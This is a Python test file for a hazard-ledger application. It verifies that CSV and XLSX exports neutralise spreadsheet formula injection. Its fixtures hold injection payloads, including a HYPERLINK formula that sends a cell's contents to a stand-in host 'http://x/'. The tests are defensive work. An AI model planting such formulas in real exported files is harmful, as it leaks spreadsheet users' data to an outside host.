"""Exported text is never a formula: CSV cells of people's text that a spreadsheet would
run are prefixed with ``'``, XLSX cells hold them as strings (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from api.cli import app
from api.workbook.inert import FORMULA_STARTS
from api.workbook.reports import Column, csv_cell, write
from ledger.application import HazardLedger
from projections.follower import Follower
from projections.registry import all_projections
from tests.api_tests.conftest import Api, api, hazard_body
from tests.conftest import FakeClock
from tests.support import INSPECTOR, RESTAURANT_CODE, register_restaurant

DESCRIPTION = '=HYPERLINK("http://x/?"&A1,"点击")'
LOCATION = "@SUM(1+1)*cmd"
FOUND_BY = "+1+2"
ATTACKS = (DESCRIPTION, LOCATION, FOUND_BY)
__all__ = ["api"]  # the API tests' client fixture


def _ledger_with_attack(store_url: str, clock: FakeClock) -> None:
    ledger = HazardLedger(store_url, clock=clock)
    try:
        register_restaurant(ledger, clock.now)
        ledger.report_hazard(
            INSPECTOR,
            clock.now,
            enterprise_code=RESTAURANT_CODE,
            sector="city_gas",
            location=LOCATION,
            description=DESCRIPTION,
            source="grid_patrol",
            found_by=FOUND_BY,
            details={"leak_alarm_installed": False},
        )
        follower = Follower(ledger, all_projections())
        follower.catch_up()
        follower.close()
    finally:
        ledger.close()


def _csv_cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def test_cli_exports_hold_formulas_as_inert_text(
    store_url: str, clock: FakeClock, tmp_path: Path
) -> None:
    _ledger_with_attack(store_url, clock)
    runner = CliRunner()
    out_csv, out_xlsx = tmp_path / "register.csv", tmp_path / "register.xlsx"
    for out in (out_csv, out_xlsx):
        result = runner.invoke(app, ["--store", store_url, "export", "register", str(out)])
        assert result.exit_code == 0, result.output

    cells = _csv_cells(out_csv.read_text(encoding="utf-8-sig"))
    assert {"'" + text for text in ATTACKS} <= cells
    assert not {c for c in cells if c.startswith(FORMULA_STARTS)}

    wb = load_workbook(out_xlsx)
    ws = wb.active
    assert ws is not None
    values = {c.value: c.data_type for row in ws.iter_rows() for c in row}
    wb.close()
    for text in ATTACKS:
        assert values[text] == "s", text  # a string, not a formula ("f")


def test_the_register_export_route_holds_formulas_as_inert_text(api: Api) -> None:
    body = hazard_body(api) | {
        "description": DESCRIPTION,
        "location": LOCATION,
        "found_by": FOUND_BY,
    }
    assert api.post("inspector", "/hazards", body).status_code == 201
    follower = Follower(api.ledger, all_projections())
    follower.catch_up()
    follower.close()
    r = api.get("inspector", "/register/export")
    assert r.status_code == 200, r.text
    cells = _csv_cells(r.content.decode("utf-8-sig"))
    assert {"'" + text for text in ATTACKS} <= cells
    assert not {c for c in cells if c.startswith(FORMULA_STARTS)}


@given(st.text(max_size=30))
def test_no_text_cell_of_a_csv_file_starts_a_formula(text: str) -> None:
    cell = csv_cell(Column("description", "隐患描述"), text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


def test_campaign_style_tables_written_by_write_are_inert_in_both_formats(
    tmp_path: Path,
) -> None:
    columns = [Column("name", "名称"), Column("n", "数量", kind="integer")]
    rows = [[text, -1] for text in ATTACKS]
    write(tmp_path / "t.csv", "表", columns, rows)
    cells = _csv_cells((tmp_path / "t.csv").read_text(encoding="utf-8-sig"))
    assert {"'" + text for text in ATTACKS} <= cells
    assert "-1" in cells  # numbers are numbers, not people's text
    write(tmp_path / "t.xlsx", "表", columns, rows)
    wb = load_workbook(tmp_path / "t.xlsx")
    ws = wb.active
    assert ws is not None
    kinds = {c.value: c.data_type for row in ws.iter_rows() for c in row}
    wb.close()
    assert all(kinds[text] == "s" for text in ATTACKS)
